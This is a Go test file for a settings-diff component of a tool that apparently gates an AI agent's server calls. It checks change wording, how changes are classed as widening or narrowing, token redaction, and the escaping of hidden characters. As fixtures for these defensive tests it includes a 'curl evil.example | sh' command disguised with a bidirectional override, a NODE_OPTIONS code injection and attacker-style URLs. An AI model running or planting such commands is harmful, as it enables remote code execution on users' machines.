package config

import (
	"encoding/json"
	"maps"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/countersign/countersign/internal/catalog"
	"github.com/countersign/countersign/internal/policy"
)

func resolved(t *testing.T, settings, pol string) *Effective {
	t.Helper()
	return Resolve(mustParse(t, settings), mustPolicy(t, pol), Checks{})
}

// TestDiff checks the words and the direction of each kind of change.
func TestDiff(t *testing.T) {
	const gh = `{"id":"gh","name":"GitHub","kind":"github","allowlist":{"github-repository":["DEFRA/ffc-pay"]},"hiddenTools":["delete_repository"]}`
	const local = `{"id":"local","transport":"stdio","command":"node","args":["server.js"]}`
	settings := func(extra string, servers ...string) string {
		if extra != "" {
			extra += ","
		}
		return `{"version":2,` + extra + `"servers":[` + strings.Join(servers, ",") + `]}`
	}
	tests := []struct {
		name      string
		old, next string
		pol       string
		want      []Change
	}{
		{name: "nothing changed", old: settings("", gh), next: settings("", gh)},
		{
			name: "a hidden tool shown again widens",
			old:  settings("", gh),
			next: settings("", strings.Replace(gh, `"hiddenTools":["delete_repository"]`, `"hiddenTools":[]`, 1)),
			want: []Change{{Server: "gh", Text: "GitHub: delete_repository is no longer hidden", Widens: true}},
		},
		{
			name: "a tool hidden narrows",
			old:  settings("", gh),
			next: settings("", strings.Replace(gh, `["delete_repository"]`, `["delete_repository","create_*"]`, 1)),
			want: []Change{{Server: "gh", Text: "GitHub: create_* is now hidden"}},
		},
		{
			name: "an allowlist entry added widens",
			old:  settings("", gh),
			next: settings("", strings.Replace(gh, `["DEFRA/ffc-pay"]`, `["DEFRA/ffc-pay","DEFRA/*"]`, 1)),
			want: []Change{{Server: "gh", Text: "GitHub: allowlist added DEFRA/*", Widens: true}},
		},
		{
			name: "a glob made broader widens",
			old:  settings("", strings.Replace(gh, `["DEFRA/ffc-pay"]`, `["DEFRA/ffc-*"]`, 1)),
			next: settings("", strings.Replace(gh, `["DEFRA/ffc-pay"]`, `["DEFRA/*"]`, 1)),
			want: []Change{
				{Server: "gh", Text: "GitHub: allowlist added DEFRA/*", Widens: true},
				{Server: "gh", Text: "GitHub: allowlist removed DEFRA/ffc-*"},
			},
		},
		{
			name: "an allowlist entry removed narrows",
			old:  settings("", gh),
			next: settings("", strings.Replace(gh, `"allowlist":{"github-repository":["DEFRA/ffc-pay"]},`, ``, 1)),
			want: []Change{{Server: "gh", Text: "GitHub: allowlist removed DEFRA/ffc-pay"}},
		},
		{
			name: "a server added widens, named by where it runs",
			old:  settings("", gh),
			next: settings("", gh, local),
			want: []Change{{Server: "local", Text: "Added server local (runs node server.js)", Widens: true}},
		},
		{
			name: "a server removed narrows",
			old:  settings("", gh, local),
			next: settings("", gh),
			want: []Change{{Text: "Removed server local"}},
		},
		{
			name: "a changed command widens",
			old:  settings("", local),
			next: settings("", strings.Replace(local, "server.js", "evil.js", 1)),
			want: []Change{{Server: "local", Text: "local: command changed to runs node evil.js", Widens: true}},
		},
		{
			name: "an address's query is not shown",
			old:  settings("", `{"id":"r","transport":"streamable-http","url":"https://mcp.example.org/mcp"}`),
			next: settings("", `{"id":"r","transport":"streamable-http","url":"https://evil.example.org/mcp?key=ghp_abcdefghijklmnopqrstuvwxyz0123456789"}`),
			want: []Change{{Server: "r", Text: "r: address changed to https://evil.example.org/mcp", Widens: true}},
		},
		{
			name: "a parameter changed widens",
			old:  settings("", `{"id":"ado","kind":"azure-devops","params":{"organization":"defra"}}`),
			next: settings("", `{"id":"ado","kind":"azure-devops","params":{"organization":"other"}}`),
			want: []Change{{Server: "ado", Text: `ado: parameter organization set to "other"`, Widens: true}},
		},
		{
			name: "a renamed server widens",
			old:  settings("", gh),
			next: settings("", strings.Replace(gh, `"name":"GitHub"`, `"name":"GitHub (work)"`, 1)),
			want: []Change{{Server: "gh", Text: `GitHub: name changed to "GitHub (work)"`, Widens: true}},
		},
		{
			name: "write tools on widens, off narrows",
			old:  settings("", gh),
			next: settings("", strings.Replace(gh, `"kind":"github",`, `"kind":"github","allowWrite":true,`, 1)),
			want: []Change{{Server: "gh", Text: "GitHub: write tools turned on", Widens: true}},
		},
		{
			name: "a longer timeout widens",
			old:  settings(`"approvalTimeout":"5m"`),
			next: settings(`"approvalTimeout":"1h"`),
			want: []Change{{Text: "Approval timeout changed from 5 minutes to 1 hour", Widens: true}},
		},
		{
			name: "a shorter timeout narrows",
			old:  settings(`"approvalTimeout":"5m"`),
			next: settings(`"approvalTimeout":"1m"`),
			want: []Change{{Text: "Approval timeout changed from 5 minutes to 1 minute"}},
		},
		{
			name: "shorter audit retention widens",
			old:  settings(`"auditRetentionDays":180`),
			next: settings(`"auditRetentionDays":1`),
			want: []Change{{Text: "Audit records kept for 1 days instead of 180", Widens: true}},
		},
		{
			name: "start at login off narrows: calls fail while Countersign is not running",
			old:  settings(`"startAtLogin":true`),
			next: settings(""),
			want: []Change{{Text: "Start at login turned off"}},
		},
		{
			name: "a browser origin added widens",
			old:  settings(""),
			next: settings(`"allowedOrigins":["https://evil.example"]`),
			want: []Change{{Text: "Browser origin allowed: https://evil.example", Widens: true}},
		},
		{
			name: "a port change widens",
			old:  settings(""),
			next: settings(`"port":4000`),
			want: []Change{{Text: "Port changed from 39217 to 4000 (applies when Countersign starts again)", Widens: true}},
		},
		{
			name: "servers reordered is something Diff does not know: it widens",
			old:  settings("", gh, local),
			next: settings("", local, gh),
			want: []Change{{Text: "Other settings changed", Widens: true}},
		},
		{
			name: "a narrowing change beside one Diff does not know still widens",
			old:  settings("", gh, local),
			next: settings("", local, strings.Replace(gh, `["delete_repository"]`, `["delete_repository","create_*"]`, 1)),
			want: []Change{{Server: "gh", Text: "GitHub: create_* is now hidden"}, {Text: "Other settings changed", Widens: true}},
		},
		{
			name: "an allowlist reordered while an entry is removed only narrows",
			old:  settings("", strings.Replace(gh, `["DEFRA/ffc-pay"]`, `["DEFRA/ffc-pay","DEFRA/ffc-doc","DEFRA/other"]`, 1)),
			next: settings("", strings.Replace(gh, `["DEFRA/ffc-pay"]`, `["DEFRA/other","DEFRA/ffc-doc"]`, 1)),
			want: []Change{{Server: "gh", Text: "GitHub: allowlist removed DEFRA/ffc-pay"}},
		},
		{
			name: "an environment variable set widens, with its value",
			old:  settings("", local),
			next: settings("", strings.Replace(local, `"args"`, `"env":{"NODE_OPTIONS":"--require /tmp/x.js"},"args"`, 1)),
			want: []Change{{Server: "local", Text: "local: environment NODE_OPTIONS set to --require /tmp/x.js", Widens: true}},
		},
		{
			name: "an environment variable removed widens",
			old:  settings("", strings.Replace(local, `"args"`, `"env":{"NODE_OPTIONS":"--disallow-code-generation-from-strings","DEBUG":""},"args"`, 1)),
			next: settings("", strings.Replace(local, `"args"`, `"env":{"DEBUG":"mcp:*"},"args"`, 1)),
			want: []Change{
				{Server: "local", Text: "local: environment DEBUG set to mcp:*", Widens: true},
				{Server: "local", Text: "local: environment NODE_OPTIONS removed", Widens: true},
			},
		},
		{
			name: "an entry the locked list drops still widens, said so",
			pol:  `{"version":1,"servers":{"github":{"allowlist":{"github-repository":["DEFRA/ffc-pay"]},"lockAllowlist":true}}}`,
			old:  settings("", gh),
			next: settings("", strings.Replace(gh, `["DEFRA/ffc-pay"]`, `["DEFRA/ffc-pay","evil/*"]`, 1)),
			want: []Change{{Server: "gh", Text: "GitHub: allowlist added evil/* (not in force while your organisation's policy applies)", Widens: true}},
		},
		{
			name: "a catalog server turned into another kind is removed and added",
			old:  settings("", gh),
			next: settings("", `{"id":"gh","name":"GitHub","transport":"stdio","command":"sh"}`),
			want: []Change{{Text: "Removed server GitHub"}, {Server: "gh", Text: "Added server GitHub (runs sh)", Widens: true}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Diff(resolved(t, tt.old, tt.pol), resolved(t, tt.next, tt.pol))
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Diff (-want +got):\n%s", diff)
			}
		})
	}
}

// TestDiffKnowsEveryField fails when a settings field is added: Diff must
// then learn to compare it (or leave it to "Other settings changed").
func TestDiffKnowsEveryField(t *testing.T) {
	for _, c := range []struct {
		typ  reflect.Type
		want []string
	}{
		{reflect.TypeFor[Config](), []string{"Version", "Port", "ApprovalTimeout", "AllowedOrigins", "StartAtLogin", "AuditRetentionDays", "Servers"}},
		{reflect.TypeFor[Server](), []string{"ID", "Name", "Kind", "Params", "Transport", "URL", "Command", "Args", "Env", "Allowlist", "HiddenTools", "AllowWrite"}},
	} {
		var got []string
		for f := range c.typ.Fields() {
			got = append(got, f.Name)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s has fields %v; Diff knows %v", c.typ, got, c.want)
		}
	}
}

// TestDiffTextHoldsNoToken: words for the audit and the window never carry
// a token, wherever the settings put one.
func TestDiffTextHoldsNoToken(t *testing.T) {
	const tok = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
	old := resolved(t, `{"version":2,"servers":[]}`, "")
	next := resolved(t, `{"version":2,"servers":[`+
		`{"id":"a","transport":"stdio","command":"node","args":["--token=`+tok+`"],"env":{"X":"`+tok+`"}},`+
		`{"id":"b","transport":"sse","url":"https://x.example/`+tok+`?t=`+tok+`"},`+
		`{"id":"c","kind":"github","params":{"toolsets":"`+tok+`"}}]}`, "")
	for _, c := range append(Diff(old, next), Diff(next, old)...) {
		if strings.Contains(c.Text, tok) {
			t.Errorf("change text holds the token: %q", c.Text)
		}
	}
}

// TestDiffUnexplainedChangeWidens: a change Diff has no line for, made
// beside changes it has lines for (here narrowing ones), is one more
// widening change: the recognised lines alone would let it apply at once.
func TestDiffUnexplainedChangeWidens(t *testing.T) {
	base := Defaults()
	base.Servers = []Server{
		{ID: "gh", Kind: "github", HiddenTools: []string{"delete_repository"}},
		{ID: "local", Transport: TransportStdio, Command: "node", Args: []string{"server.js"}},
	}
	narrowed := func(c *Config) *Config {
		c.Servers[0].HiddenTools = append(c.Servers[0].HiddenTools, "create_*")
		c.ApprovalTimeout = Duration(time.Minute)
		return c
	}
	for _, tt := range []struct {
		name string
		edit func(*Config)
	}{
		{"a second server of the same id, wider", func(c *Config) {
			wide := c.Servers[0].clone()
			wide.HiddenTools, wide.AllowWrite, wide.Allowlist = nil, true, map[string][]string{repo: {"*/*"}}
			c.Servers = append(c.Servers, wide)
		}},
		{"servers reordered", func(c *Config) { c.Servers[0], c.Servers[1] = c.Servers[1], c.Servers[0] }},
	} {
		t.Run(tt.name, func(t *testing.T) {
			next := narrowed(base.Clone())
			tt.edit(next)
			changes := Diff(Resolve(base, nil, Checks{}), Resolve(next, nil, Checks{}))
			if !Widens(changes) || !slices.Contains(Texts(changes), "Other settings changed") {
				t.Fatalf("changes %q: the unexplained change does not widen", Texts(changes))
			}
			// The recognised changes alone narrow.
			if alone := Diff(Resolve(base, nil, Checks{}), Resolve(narrowed(base.Clone()), nil, Checks{})); Widens(alone) || len(alone) != 2 {
				t.Fatalf("the recognised changes alone: %q", Texts(alone))
			}
		})
	}
}

// TestDiffEnvironmentValueHoldsNoToken: an environment variable's new
// value is shown, but never a token in it, however it is named, and never
// a character the window would not show as itself.
func TestDiffEnvironmentValueHoldsNoToken(t *testing.T) {
	const (
		ghTok     = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
		anthropic = "sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGhIjKlMnOp-AbCdEfGhAA"
		random    = "Zx9Qm2Lp8Rv4Tn6Wk1Hs3Jd5Fg7Cb0Ny"
	)
	old := &Config{Version: CurrentVersion, Servers: []Server{{ID: "local", Transport: TransportStdio, Command: "node"}}}
	next := old.Clone()
	next.Servers[0].Env = map[string]string{
		"NODE_OPTIONS":  "--require /tmp/x.js --header=Authorization:" + ghTok,
		"UPSTREAM":      "https://user:" + random + "@example.org/",
		"EXTRA_HEADER":  "Bearer " + anthropic,
		"SERVICE_KEY":   random,
		"GITHUB_TOKEN":  ghTok,
		"DB_PASSWORD":   "correct horse battery staple",
		"ODD\u202eNAME": "line one\nline two \u202e",
		"PLAIN":         "--verbose",
	}
	changes := Diff(Resolve(old, nil, Checks{}), Resolve(next, nil, Checks{}))
	if len(changes) != len(next.Servers[0].Env) {
		t.Fatalf("changes %q: want one per variable", Texts(changes))
	}
	for _, c := range changes {
		if !c.Widens {
			t.Errorf("%q does not widen", c.Text)
		}
		for _, secret := range []string{ghTok, anthropic, random, "correct horse", "ghp_", "sk-ant-"} {
			if strings.Contains(c.Text, secret) {
				t.Errorf("change text holds a secret (%s): %q", secret, c.Text)
			}
		}
		for _, r := range c.Text {
			if r != ' ' && !unicode.IsGraphic(r) {
				t.Errorf("change text %q holds %U", c.Text, r)
			}
		}
	}
	for _, want := range []string{
		"local: environment PLAIN set to --verbose",
		`local: environment ODD\u202eNAME set to line one\nline two \u202e`,
		"local: environment GITHUB_TOKEN set (its value is not shown)",
		"local: environment SERVICE_KEY set (its value is not shown)",
		"local: environment UPSTREAM set to https://user:[redacted: password]@example.org/",
		"local: environment NODE_OPTIONS set to --require /tmp/x.js --header=Authorization:[redacted: github token]",
	} {
		if !slices.Contains(Texts(changes), want) {
			t.Errorf("no change %q among %q", want, Texts(changes))
		}
	}
}

// fuzzRepos, fuzzTools and fuzzPatterns are what random settings are made
// of: a small world, so that random pairs overlap.
var (
	fuzzRepos    = []string{"DEFRA/ffc-pay", "DEFRA/ffc-doc", "DEFRA/other", "evil-org/secret", "x/y"}
	fuzzTools    = []string{"get_file_contents", "delete_repository", "create_issue", "search_code", "get_me"}
	fuzzPatterns = []string{"DEFRA/ffc-pay", "DEFRA/ffc-*", "DEFRA/*", "*/*", "evil-org/secret", "x/*", "DEFRA/ffc-doc"}
	fuzzHidden   = []string{"delete_*", "delete_repository", "create_issue", "*", "search_*", "get_*"}
)

// randomSettings makes valid settings from r: a few GitHub servers and a
// custom one, with random allowlists, hidden tools, write and timeout.
func randomSettings(r *rand.Rand) *Config {
	c := Defaults()
	pick := func(list []string) []string {
		var out []string
		for _, v := range list {
			if r.IntN(3) == 0 {
				out = append(out, v)
			}
		}
		return out
	}
	for _, id := range []string{"gh", "gh2", "local"} {
		if r.IntN(4) == 0 {
			continue
		}
		s := Server{ID: id, Kind: "github", AllowWrite: r.IntN(2) == 0, HiddenTools: pick(fuzzHidden)}
		if id == "local" {
			s = Server{ID: id, Transport: TransportStdio, Command: []string{"node", "sh"}[r.IntN(2)], HiddenTools: pick(fuzzHidden)}
		} else if l := pick(fuzzPatterns); len(l) > 0 {
			s.Allowlist = map[string][]string{repo: l}
		}
		if r.IntN(5) == 0 {
			s.Name = "Renamed"
		}
		c.Servers = append(c.Servers, s)
	}
	c.ApprovalTimeout = Duration([]int{30, 60, 300, 3600}[r.IntN(4)] * 1e9)
	c.AuditRetentionDays = []int{30, 180, 365}[r.IntN(3)]
	c.StartAtLogin = r.IntN(2) == 0
	return c
}

// verdict is how permissive a policy is with one call: 0 hidden, 1 denied,
// 2 reviewed, 3 allowed.
func verdict(t *testing.T, es EffectiveServer, tool, repoName string) int {
	t.Helper()
	allow := map[catalog.Kind][]string{}
	for k, v := range es.Patterns() {
		allow[catalog.Kind(k)] = v
	}
	pc := policy.Config{Name: es.Server.DisplayName(), Allowlist: allow, Hidden: es.HiddenToolNames()}
	if !es.Server.Custom() {
		pc.CatalogID = es.Server.Kind
		pc.Params = map[string]string{}
	}
	p, err := policy.New(pc)
	if err != nil {
		t.Fatalf("policy.New: %v", err)
	}
	if p.Hidden(tool) {
		return 0
	}
	owner, name, _ := strings.Cut(repoName, "/")
	args, _ := json.Marshal(map[string]string{"owner": owner, "repo": name, "path": "README.md", "title": "t"})
	switch p.Check(policy.Call{Tool: tool, Arguments: args}).Action {
	case policy.ActionDeny:
		return 1
	case policy.ActionReview:
		return 2
	}
	return 3
}

// FuzzDiffNarrowingNeverAllowsMore: for random pairs of settings, a change
// Diff calls narrowing never makes a call reachable that was refused
// before: no server appears, none connects that did not, no hidden tool
// shows, no repository leaves the deny list, no write tools turn on, and the
// timeout does not grow. A check with the policy engine on sample calls.
func FuzzDiffNarrowingNeverAllowsMore(f *testing.F) {
	for i := range uint64(8) {
		f.Add(i, i*7+3)
	}
	// Pairs where a narrowing edit comes with one Diff has no line for.
	for _, seed := range [][2]uint64{{1, 14}, {1, 21}, {2, 22}, {3, 12}} {
		f.Add(seed[0], seed[1])
	}
	f.Fuzz(func(t *testing.T, a, b uint64) {
		oldCfg := randomSettings(rand.New(rand.NewPCG(a, 1)))
		nextCfg := randomSettings(rand.New(rand.NewPCG(b, 2)))
		if r := rand.New(rand.NewPCG(a^b, 3)); r.IntN(2) == 0 {
			// Often a small edit of the old settings instead: narrowing
			// pairs are then common enough to test.
			nextCfg = oldCfg.Clone()
			mutate(r, nextCfg)
		}
		old, next := Resolve(oldCfg, nil, Checks{}), Resolve(nextCfg, nil, Checks{})
		changes := Diff(old, next)
		if sameSettings(oldCfg, nextCfg) != (len(changes) == 0) {
			t.Fatalf("settings differ: %v, but changes are %v", !sameSettings(oldCfg, nextCfg), changes)
		}
		if Widens(changes) {
			return
		}
		// A change Diff has no line for (servers in another order, a
		// second server of an id) is never part of a narrowing one.
		if !slices.Equal(commonIDs(oldCfg, nextCfg), commonIDs(nextCfg, oldCfg)) {
			t.Fatalf("narrowing %v carried a change it does not name", Texts(changes))
		}
		for _, ns := range nextCfg.Servers {
			i := slices.IndexFunc(oldCfg.Servers, func(o Server) bool { return o.ID == ns.ID })
			if i >= 0 && !maps.Equal(oldCfg.Servers[i].Env, ns.Env) {
				t.Fatalf("narrowing %v changed the environment of %s", Texts(changes), ns.ID)
			}
		}
		if next.ApprovalTimeout > old.ApprovalTimeout || next.AuditRetentionDays < old.AuditRetentionDays {
			t.Fatalf("narrowing %v lengthened the timeout or shortened retention", Texts(changes))
		}
		for _, ns := range next.Servers {
			os, ok := old.Server(ns.Server.ID)
			if !ok {
				t.Fatalf("narrowing %v added server %s", Texts(changes), ns.Server.ID)
			}
			if ns.Connect && !os.Connect || ns.AllowWrite && !os.AllowWrite || ns.Server.DisplayName() != os.Server.DisplayName() {
				t.Fatalf("narrowing %v widened server %s", Texts(changes), ns.Server.ID)
			}
			for _, tool := range fuzzTools {
				for _, rp := range fuzzRepos {
					if o, n := verdict(t, os, tool, rp), verdict(t, ns, tool, rp); n > o {
						t.Fatalf("narrowing %v lets %s on %s through %s: %d → %d", Texts(changes), tool, rp, ns.Server.ID, o, n)
					}
				}
			}
		}
	})
}

// commonIDs returns the ids of a's servers that b has too, in a's order.
func commonIDs(a, b *Config) []string {
	var out []string
	for _, s := range a.Servers {
		if slices.ContainsFunc(b.Servers, func(o Server) bool { return o.ID == s.ID }) {
			out = append(out, s.ID)
		}
	}
	return out
}

// mutate makes one to three small edits, either way, some of which Diff
// has no line for.
func mutate(r *rand.Rand, c *Config) {
	for range 1 + r.IntN(3) {
		if len(c.Servers) == 0 {
			return
		}
		s := &c.Servers[r.IntN(len(c.Servers))]
		switch r.IntN(9) {
		case 6:
			i, j := r.IntN(len(c.Servers)), r.IntN(len(c.Servers))
			c.Servers[i], c.Servers[j] = c.Servers[j], c.Servers[i]
		case 7:
			// A second server of the same id (settings that Validate
			// refuses, which Diff must still see).
			wide := s.clone()
			wide.HiddenTools, wide.AllowWrite = nil, s.Kind != ""
			if s.Kind != "" {
				wide.Allowlist = map[string][]string{repo: {"*/*"}}
			}
			c.Servers = append(c.Servers, wide)
		case 8:
			if s.Kind == "" {
				if s.Env == nil {
					s.Env = map[string]string{}
				}
				if r.IntN(2) == 0 {
					s.Env["NODE_OPTIONS"] = "--require /tmp/x.js"
				} else {
					delete(s.Env, "NODE_OPTIONS")
				}
			}
		case 0:
			if len(s.HiddenTools) > 0 {
				s.HiddenTools = s.HiddenTools[1:]
			}
		case 1:
			if v := fuzzHidden[r.IntN(len(fuzzHidden))]; !slices.Contains(s.HiddenTools, v) {
				s.HiddenTools = append(s.HiddenTools, v)
			}
		case 2:
			if l := s.Allowlist[repo]; len(l) > 0 {
				s.Allowlist[repo] = l[:len(l)-1]
			}
		case 3:
			if s.Kind != "" {
				if v := fuzzPatterns[r.IntN(len(fuzzPatterns))]; !slices.Contains(s.Allowlist[repo], v) {
					if s.Allowlist == nil {
						s.Allowlist = map[string][]string{}
					}
					s.Allowlist[repo] = append(s.Allowlist[repo], v)
				}
			}
		case 4:
			s.AllowWrite = !s.AllowWrite && s.Kind != ""
		case 5:
			i := r.IntN(len(c.Servers))
			c.Servers = slices.Delete(c.Servers, i, i+1)
		}
	}
}

// TestDiffTextShowsEveryCharacter: a command line or address the person is
// asked to confirm cannot hide what it runs behind a line break (a second,
// made-up line) or a bidirectional override (text shown reversed): such
// characters are shown escaped.
func TestDiffTextShowsEveryCharacter(t *testing.T) {
	old := resolved(t, `{"version":2,"servers":[{"id":"a","transport":"stdio","command":"node","args":["server.js"]}]}`, "")
	next := resolved(t, `{"version":2,"servers":[{"id":"a","transport":"stdio","command":"sh","args":["-c","curl evil.example | sh \u202e\n(no other change)"]},`+
		`{"id":"b","name":"B","transport":"sse","url":"https://x.example/a%0Ab"}]}`, "")
	changes := Diff(old, next)
	if len(changes) == 0 {
		t.Fatal("no changes")
	}
	for _, c := range changes {
		for _, r := range c.Text {
			if r != ' ' && !unicode.IsGraphic(r) {
				t.Errorf("change text %q holds %U, which the window would not show as itself", c.Text, r)
			}
		}
	}
}
